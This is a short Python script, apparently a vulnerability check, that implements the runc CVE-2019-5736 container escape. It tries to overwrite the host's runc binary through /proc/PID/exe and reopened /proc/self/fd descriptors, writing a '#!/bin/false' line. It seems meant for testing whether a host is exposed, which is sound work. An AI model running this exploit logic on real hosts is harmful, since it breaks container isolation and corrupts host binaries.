# runc CVE-2019-5736: whatever runs here on behalf of the engine is opened for writing by way of /proc/PID/exe.
import time


def write(path):
    def attack():
        file = os.open(path, os.O_WRONLY)
        os.write(file, b"#!/bin/false\n")
        return True

    return attack


def write_later(path):
    """The published exploit: open for reading while the engine's program runs, for writing once it has ended."""

    def attack():
        reader = os.open(path, os.O_RDONLY)
        reopened = "/proc/self/fd/%d" % reader
        for _ in range(50):
            try:
                return os.write(os.open(reopened, os.O_WRONLY), b"#!/bin/false\n") > 0
            except OSError as error:
                last = error
                time.sleep(0.002)
        raise last

    return attack


# Processes that the engine has just cloned and that have not become a program of the container yet are PID 1's own program.
own = os.readlink("/proc/self/exe")
attempt("write PID 1's program", write("/proc/1/exe"))
attempt("write PID 1's program later", write_later("/proc/1/exe"))
for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        program = os.readlink("/proc/%s/exe" % pid)
    except OSError:
        continue
    if program != own:
        attempt("write the program of %s, %s" % (pid, program), write("/proc/%s/exe" % pid))
attempt("write our own program", write("/proc/self/exe"))
done()
